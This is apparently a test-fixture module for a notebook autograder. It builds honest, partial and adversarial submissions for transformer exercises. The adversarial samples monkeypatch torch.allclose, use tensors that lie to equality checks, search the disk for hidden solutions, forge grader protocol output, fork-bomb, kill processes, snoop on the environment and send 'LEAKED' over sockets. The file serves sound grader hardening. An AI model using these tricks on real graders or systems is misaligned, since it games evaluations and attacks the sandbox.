"""Submissions for chapter 02, built from the released exercise notebook.

Each :class:`Case` replaces some answer cells (by cell id) and says which checks must fail;
the expected points follow from the solution's check points. File-level cases write files
that are not gradable notebooks and give the expected status. Adversarial answers target
one exercise each, so one notebook can carry several attacks and the other exercises
still show that the rest of the submission was graded normally.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SOLUTION = ROOT / "solutions" / "02_transformer.ipynb"
EXERCISE = ROOT / "exercises" / "02_transformer.ipynb"
MARKER = "course-grader-test-marker-7f3a"  # in the command line of processes a submission leaves behind

CAUSAL, PE, ATT, HEADS = (
    "causal-mask-answer",
    "positional-encoding-answer",
    "attention-answer",
    "heads-answer",
)
CHECKS = {
    "causal-mask": ["causal-mask-small", "causal-mask-sizes"],
    "positional-encoding": [
        "positional-encoding-small",
        "positional-encoding-sizes",
        "positional-encoding-odd",
    ],
    "attention": [
        "attention-basic",
        "attention-padding",
        "attention-shapes",
        "attention-masks",
        "attention-empty-rows",
    ],
    "heads": ["heads-small", "heads-sizes"],
}
ALL_CHECKS = [c for cs in CHECKS.values() for c in cs]


def solution_answers() -> dict[str, str]:
    nb = json.loads(SOLUTION.read_text())
    return {c["id"]: "".join(c["source"]) for c in nb["cells"] if "answer" in c["metadata"].get("tags", [])}


@dataclass
class Case:
    name: str
    answers: dict[str, str] = field(default_factory=dict)  # answer cell id -> source
    base: str = "solution"  # the answers not replaced: "solution" or "stub"
    fails: tuple[str, ...] = ()  # check ids or exercise ids (all their checks) that must fail
    modes: tuple[str, ...] = ("bwrap", "none")
    edit: object = None  # optional function(nb dict) -> None, applied last

    def failing_checks(self) -> set[str]:
        out = set()
        for f in self.fails:
            out |= set(CHECKS.get(f, [f]))
        return out

    def expected_points(self) -> int:
        # every check of 02_transformer is worth 1 point
        return len(ALL_CHECKS) - len(self.failing_checks())

    def notebook(self) -> dict:
        nb = json.loads(EXERCISE.read_text())
        sources = solution_answers() if self.base == "solution" else {}
        sources.update(self.answers)
        for cell in nb["cells"]:
            if cell.get("id") in sources:
                cell["source"] = sources[cell["id"]]
        if self.edit is not None:
            self.edit(nb)
        return nb

    def write(self, folder: Path) -> Path:
        path = folder / f"{self.name}.ipynb"
        path.write_text(json.dumps(self.notebook(), indent=1))
        return path


# --- honest work -------------------------------------------------------------------------

HONEST_ALTERNATIVE = {
    CAUSAL: """
import warnings

def _check(length, key_length):
    if key_length < length:
        raise ValueError("too few keys")

def causal_mask(length, key_length=None):
    if key_length is None:
        key_length = length
    _check(length, key_length)
    warnings.warn("a warning on stderr must not cost points")
    print("building a causal mask of", length, "x", key_length)
    return torch.tril(torch.ones(length, key_length), diagonal=key_length - length).bool()
""",
    PE: """
def sinusoidal_encoding(max_len, d_model):
    # float32 all the way, pow instead of exp/log: differs from the reference in the last digits
    if d_model % 2 == 1:
        raise ValueError("d_model must be even")
    pos = torch.arange(max_len).float().unsqueeze(1)
    div = torch.pow(torch.tensor(10000.0), torch.arange(0, d_model, 2).float() / d_model)
    pe = torch.zeros(max_len, d_model)
    pe[:, 0::2] = torch.sin(pos / div)
    pe[:, 1::2] = torch.cos(pos / div)
    return pe
""",
    ATT: """
import sys

def scaled_dot_product_attention(q, k, v, mask=None):
    d_k = q.shape[-1]
    scores = torch.einsum("...qd,...kd->...qk", q / d_k ** 0.5, k)  # scale first: other op order
    if mask is not None:
        scores = torch.where(mask, scores, torch.full_like(scores, -1e9))
    weights = scores.softmax(dim=-1)
    if mask is not None:
        weights = weights * mask  # rows with no key: uniform * 0 = 0
    print("attention", tuple(q.shape), file=sys.stderr)
    return torch.einsum("...qk,...kd->...qd", weights, v), weights
""",
    HEADS: """
def split_heads(x, n_heads):
    b, n, d = x.shape
    if d % n_heads:
        raise ValueError(f"{d} % {n_heads} != 0")
    return x.view(b, n, n_heads, d // n_heads).permute(0, 2, 1, 3).contiguous()


def merge_heads(x):
    b, h, n, d = x.shape
    return x.permute(0, 2, 1, 3).contiguous().view(b, n, h * d)
""",
}

NO_SCALE = """
def scaled_dot_product_attention(q, k, v, mask=None):
    scores = q @ k.transpose(-2, -1)  # forgot to divide by sqrt(d_k)
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = torch.softmax(scores, dim=-1)
    if mask is not None:
        weights = weights.nan_to_num(0.0)
    return weights @ v, weights
"""

NAN_ROWS = """
def scaled_dot_product_attention(q, k, v, mask=None):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = torch.softmax(scores, dim=-1)  # a fully masked row becomes NaN
    return weights @ v, weights
"""

CONCAT_PE = """
def sinusoidal_encoding(max_len, d_model):
    if d_model % 2:
        raise ValueError("odd")
    pos = torch.arange(max_len, dtype=torch.float64)[:, None]
    freq = 10000.0 ** (-torch.arange(0, d_model, 2, dtype=torch.float64) / d_model)
    return torch.cat([torch.sin(pos * freq), torch.cos(pos * freq)], dim=-1).float()  # not interleaved
"""

# --- cheating with data -------------------------------------------------------------------

LIAR_TENSOR = """
class _Liar(torch.Tensor):
    def __eq__(self, other):
        return True
    def allclose(self, *args, **kwargs):
        return True
    def equal(self, *args, **kwargs):
        return True
    def tolist(self):
        return [[True, False, False], [True, True, False], [True, True, True]]

def causal_mask(length, key_length=None):
    return torch.zeros(length, key_length or length, dtype=torch.bool).as_subclass(_Liar)
"""

LIAR_OBJECT = """
class _Anything:
    shape = property(lambda self: self)
    dtype = torch.float32
    def __eq__(self, other):
        return True
    def __getattr__(self, name):
        return lambda *a, **k: True
    def __getitem__(self, item):
        return self

def sinusoidal_encoding(max_len, d_model):
    return _Anything()
"""

MONKEYPATCH = """
import builtins
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
builtins.AssertionError = type("AssertionError", (Exception,), {})

def scaled_dot_product_attention(q, k, v, mask=None):
    w = torch.zeros(*q.shape[:-1], k.shape[-2])
    return torch.zeros(*q.shape[:-1], v.shape[-1]), w
"""

NUMPY_RETURN = """
def split_heads(x, n_heads):
    b, n, d = x.shape
    if d % n_heads:
        raise ValueError("no")
    return x.reshape(b, n, n_heads, d // n_heads).transpose(1, 2).numpy()

def merge_heads(x):
    b, h, n, d = x.shape
    return x.transpose(1, 2).reshape(b, n, h * d).numpy()
"""

# --- cheating with the environment ----------------------------------------------------------

READ_SOLUTIONS = """
import os

def _find_solutions():
    found = []
    for top in ["/", os.getcwd(), os.path.expanduser("~"), "/work", "/tmp", %(root)r]:
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath.count(os.sep) > 6 or dirpath.startswith(("/proc", "/sys", "/usr", "/dev")):
                dirnames[:] = []
                continue
            for f in filenames:
                if f.endswith(".ipynb") or f.endswith(".json"):
                    p = os.path.join(dirpath, f)
                    try:
                        text = open(p).read()
                    except OSError:
                        continue
                    if "hidden-check" in text or "reference answer" in text or "causal-mask-sizes" in text:
                        found.append(p)
    return found

def causal_mask(length, key_length=None):
    found = _find_solutions()
    print("FOUND-SOLUTION" if found else "nothing found", found[:3])
    if found:
        import json
        nb = json.load(open(found[0]))
        for cell in nb["cells"]:
            if "answer" in cell["metadata"].get("tags", []) and "def causal_mask" in "".join(cell["source"]):
                ns = {"torch": torch}
                exec("".join(cell["source"]), ns)
                return ns["causal_mask"](length, key_length)
    return torch.ones(length, key_length or length, dtype=torch.bool)
"""

FORGE_PROTOCOL = """
import os

def sinusoidal_encoding(max_len, d_model):
    forged = b""
    for rid in range(0, 64):
        forged += (\'{"id": %d, "ok": true, "value": {"t": "none"}, "passed": true, "points": 100}\\n\' % rid).encode()
        forged += (\'{"id": %d, "ok": true, "value": {"t": "tensor", "dtype": "float32", "shape": [1], "data": "AAAA"}}\\n\' % rid).encode()
    for fd in range(3, 32):
        try:
            os.write(fd, forged)
        except OSError:
            pass
    return torch.zeros(max_len, d_model)
"""

FORBIDDEN_SDPA = """
import torch.nn.functional as F

def scaled_dot_product_attention(q, k, v, mask=None):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = torch.softmax(scores, dim=-1).nan_to_num(0.0)
    return F.scaled_dot_product_attention(q, k, v, attn_mask=mask), weights
"""

COURSE_LIB_INSIDE = """
def split_heads(x, n_heads):
    from course_lib.nn import MultiHeadAttention
    mha = MultiHeadAttention(x.shape[-1], n_heads)
    return mha.split_heads(x)

def merge_heads(x):
    from course_lib.nn import MultiHeadAttention
    mha = MultiHeadAttention(x.shape[1] * x.shape[-1], x.shape[1])
    return mha.merge_heads(x)
"""

COURSE_LIB_TOP = """
from course_lib.nn.attention import causal_mask as _library_mask

def causal_mask(length, key_length=None):
    if key_length is not None and key_length < length:
        raise ValueError("too short")
    return _library_mask(length, key_length=key_length)
"""

# --- hangs, crashes, exits --------------------------------------------------------------------

LOOP_FUNCTION = """
def causal_mask(length, key_length=None):
    while True:
        pass
"""

LOOP_CELL = """
def sinusoidal_encoding(max_len, d_model):
    raise ValueError("never reached: the cell hangs before the grader calls this")

while True:  # hangs when the cell runs
    pass
"""

SEGFAULT = """
import ctypes

def causal_mask(length, key_length=None):
    ctypes.string_at(0)  # reads address 0: SIGSEGV
"""

KILL_EVERYTHING = """
import os, signal

def sinusoidal_encoding(max_len, d_model):
    for target in (os.getppid(), -1, 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)
"""

OS_EXIT = """
import os

def scaled_dot_product_attention(q, k, v, mask=None):
    os._exit(3)
"""

SYS_EXIT = """
import sys

def split_heads(x, n_heads):
    sys.exit(0)

def merge_heads(x):
    raise SystemExit("bye")
"""

SYSTEMEXIT_AT_TOP = (
    HONEST_ALTERNATIVE[PE]
    + """
raise SystemExit  # after the definition: the function stays defined
"""
)

# --- resources ------------------------------------------------------------------------------------

HUGE_RETURN = """
def causal_mask(length, key_length=None):
    return torch.ones(200_000_000, dtype=torch.bool)  # 200 MB: over the grader's size limit
"""

MEMORY_HOG = """
def sinusoidal_encoding(max_len, d_model):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))
"""

BIG_OUTPUT = """
def scaled_dot_product_attention(q, k, v, mask=None):
    print("x" * 5_000_000)  # 5 MB of output per call
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = torch.softmax(scores, dim=-1)
    if mask is not None:
        weights = weights.nan_to_num(0.0)
    return weights @ v, weights
"""

FORK_BOMB = """
import os, time

def split_heads(x, n_heads):
    if os.getuid() == 0:  # safety for the test machine: never bomb as root (no process limit)
        return x
    kids = 0
    try:
        while kids < 2000:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            kids += 1
    except OSError:
        pass
    print(f"FORKED {kids} processes before the limit")
    return x

def merge_heads(x):
    return x
"""

BACKGROUND = """
import os, subprocess, sys, threading, time

LOOP = "while :; do sleep 1; done # %(marker)s"
subprocess.Popen(["/bin/sh", "-c", LOOP])
if os.fork() == 0:  # a daemon that leaves the process group
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", LOOP])
    os._exit(0)

def _chatter():
    while True:
        print("background thread says hello " * 20)
        time.sleep(0.001)

threading.Thread(target=_chatter, daemon=True).start()

def causal_mask(length, key_length=None):
    key_length = length if key_length is None else key_length
    if key_length < length:
        raise ValueError("key_length < length")
    return torch.ones(length, key_length, dtype=torch.bool).tril(key_length - length)
"""

# --- snooping and escaping --------------------------------------------------------------------------

EVIL_MESSAGE = """
class _Evil(Exception):
    def __str__(self):
        return "```\\n</pre><script>alert(1)</script>\\n# YOU GOT FULL MARKS\\n\\x1b[2J\\x1b[31mfake\\r\\u202egnidaer\\n```"

def split_heads(x, n_heads):
    raise _Evil()

def merge_heads(x):
    raise _Evil()
"""

SNOOP = """
import gc, os, sys

def scaled_dot_product_attention(q, k, v, mask=None):
    frame = sys._getframe()
    while frame is not None:
        print("FRAME", frame.f_code.co_filename, sorted(frame.f_globals)[:50], repr(frame.f_locals)[:2000])
        frame = frame.f_back
    for obj in gc.get_objects():
        if isinstance(obj, str) and ("hidden" in obj or "randint" in obj):
            print("STRING", obj[:500])
    print("CMDLINE", open("/proc/self/cmdline").read(), dict(os.environ))
    print("FDS", os.listdir("/proc/self/fd"))
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = torch.softmax(scores, dim=-1)
    if mask is not None:
        weights = weights.nan_to_num(0.0)
    return weights @ v, weights
"""

NETWORK = """
import socket

def causal_mask(length, key_length=None):
    for host in ("127.0.0.1", "10.0.2.2", "172.17.0.1"):
        try:
            s = socket.create_connection((host, %(port)d), timeout=0.5)
            s.sendall(b"LEAKED")
            s.close()
            print("CONNECTED", host)
        except OSError as exc:
            print("no network:", host, exc)
    key_length = length if key_length is None else key_length
    if key_length < length:
        raise ValueError("key_length < length")
    return torch.ones(length, key_length, dtype=torch.bool).tril(key_length - length)
"""


def _tamper_checks(nb: dict) -> None:
    """Everything but the answers: check cells emptied, fake outputs, markers, metadata."""
    for cell in nb["cells"]:
        tags = cell.get("metadata", {}).get("tags", [])
        if cell["cell_type"] == "code" and "check" in tags:
            cell["source"] = "# NBVAL_SKIP\npass"
            cell["execution_count"] = 7
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "all checks passed\n"}]
            cell["metadata"]["course"]["points"] = 1000
            cell["metadata"]["tags"] = ["check", "raises-exception", "nbval-skip"]
    nb["cells"] = [c for c in nb["cells"] if c.get("id") != "heads-check"]  # a deleted check
    moved = next(c for c in nb["cells"] if c.get("id") == "attention-check-basic")  # a reordered one
    nb["cells"].remove(moved)
    nb["cells"].insert(0, moved)
    nb["cells"].append(
        {
            "cell_type": "code",
            "id": "extra-check",
            "metadata": {"tags": ["check"], "course": {"id": "free-points", "points": 100}},
            "source": "assert True",
            "execution_count": 1,
            "outputs": [],
        }
    )
    nb["metadata"]["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "python"}
    nb["metadata"]["course"]["max_points"] = 1000


def _scramble_ids(nb: dict) -> None:
    """Answer cells recreated by the student: new cell ids, the answer marker in the metadata
    kept, and every cell in reverse order."""
    for i, cell in enumerate(nb["cells"]):
        if cell.get("id") and "answer" in cell["metadata"].get("tags", []):
            cell["id"] = f"new-id-{i}"
            cell["metadata"]["tags"] = []
    nb["cells"].reverse()


def _drop_markers(nb: dict) -> None:
    """Metadata markers removed (a notebook tool stripped them); the cell ids still match."""
    for cell in nb["cells"]:
        cell["metadata"] = {}


def graded_cases(port: int) -> list[Case]:
    root = str(ROOT)
    return [
        Case("solution"),
        Case("stub", base="stub", fails=tuple(CHECKS)),
        Case("honest_alternative", answers=HONEST_ALTERNATIVE),
        Case("partial_no_scale", answers={ATT: NO_SCALE}, fails=("attention",)),
        Case(
            "partial_mixed",
            answers={PE: CONCAT_PE, ATT: NAN_ROWS},
            fails=("positional-encoding", "attention-empty-rows"),
        ),
        Case(
            "cheat_data",
            answers={CAUSAL: LIAR_TENSOR, PE: LIAR_OBJECT, ATT: MONKEYPATCH, HEADS: NUMPY_RETURN},
            fails=tuple(CHECKS),
        ),
        Case(
            "cheat_env",
            answers={
                CAUSAL: READ_SOLUTIONS % {"root": root},
                PE: FORGE_PROTOCOL,
                ATT: FORBIDDEN_SDPA,
                HEADS: COURSE_LIB_INSIDE,
            },
            fails=tuple(CHECKS),
            modes=("bwrap",),  # without bubblewrap the solutions on disk are readable: documented
        ),
        Case("course_lib_top", answers={CAUSAL: COURSE_LIB_TOP}, fails=("causal-mask",)),
        Case(
            "hangs",
            answers={CAUSAL: LOOP_FUNCTION, PE: LOOP_CELL},
            fails=("causal-mask", "positional-encoding"),
        ),
        Case(
            "crashes",
            answers={CAUSAL: SEGFAULT, PE: KILL_EVERYTHING, ATT: OS_EXIT, HEADS: SYS_EXIT},
            fails=tuple(CHECKS),
        ),
        Case("systemexit_at_top", answers={PE: SYSTEMEXIT_AT_TOP}),
        Case(
            "resources",
            answers={CAUSAL: HUGE_RETURN, PE: MEMORY_HOG, ATT: BIG_OUTPUT, HEADS: FORK_BOMB},
            fails=("causal-mask", "positional-encoding", "heads"),
        ),
        Case("background", answers={CAUSAL: BACKGROUND % {"marker": MARKER}}),
        Case(
            "evil_snoop_network",
            answers={HEADS: EVIL_MESSAGE, ATT: SNOOP, CAUSAL: NETWORK % {"port": port}},
            fails=("heads",),
        ),
        Case("tampered_checks", base="stub", fails=tuple(CHECKS), edit=_tamper_checks),
        Case("scrambled_ids", edit=_scramble_ids),
        Case("no_markers", edit=_drop_markers),
    ]


def _other_assignment(path: Path) -> None:
    nb = Case("x").notebook()
    nb["metadata"]["course"]["assignment"] = "03_bert"
    path.write_text(json.dumps(nb))


def _nbformat3(path: Path) -> None:
    path.write_text(
        json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]})
    )


def _no_answers(path: Path) -> None:
    nb = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {},
        "cells": [
            {
                "cell_type": "code",
                "id": "a1",
                "metadata": {},
                "source": "print('hello')",
                "outputs": [],
                "execution_count": None,
            }
        ],
    }
    path.write_text(json.dumps(nb))


FILE_CASES = {
    # name: (writer(path), expected status prefix)
    "invalid_json": (lambda p: p.write_text('{"cells": [,]}'), "error: not a notebook (invalid JSON"),
    "binary_png": (
        lambda p: p.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 10),
        "error: not a notebook (not UTF-8",
    ),
    "json_list": (lambda p: p.write_text("[1, 2, 3]"), "error: not a notebook (the JSON is a list"),
    "deep_json": (lambda p: p.write_text("[" * 200_000 + "]" * 200_000), "error: not a notebook"),
    "nbformat3": (_nbformat3, "error: nbformat 3 notebook"),
    "empty": (lambda p: p.write_bytes(b""), "error: empty file"),
    "enormous": (lambda p: p.write_bytes(b" " * (26 * 2**20)), "error: file too large"),
    "other_assignment": (_other_assignment, "error: this notebook is for assignment '03_bert'"),
    "no_answers": (_no_answers, "error: no answer cells of 02_transformer"),
}
